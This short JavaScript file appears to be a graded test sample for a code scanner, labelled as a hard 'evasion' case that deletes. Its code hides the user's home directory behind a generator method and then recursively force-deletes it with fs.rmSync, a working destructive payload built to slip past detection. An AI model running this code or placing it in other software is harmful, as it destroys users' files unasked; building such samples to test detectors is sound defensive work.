// evasion: an object literal's generator method *dirs() yields the home directory; for-of over plan.dirs() removes it
// grade: hard; does: delete
'use strict';
const fs = require('fs'); const os = require('os');
const plan = { *dirs() { yield os.homedir(); } };
for (const d of plan.dirs()) fs.rmSync(d, { recursive: true, force: true });
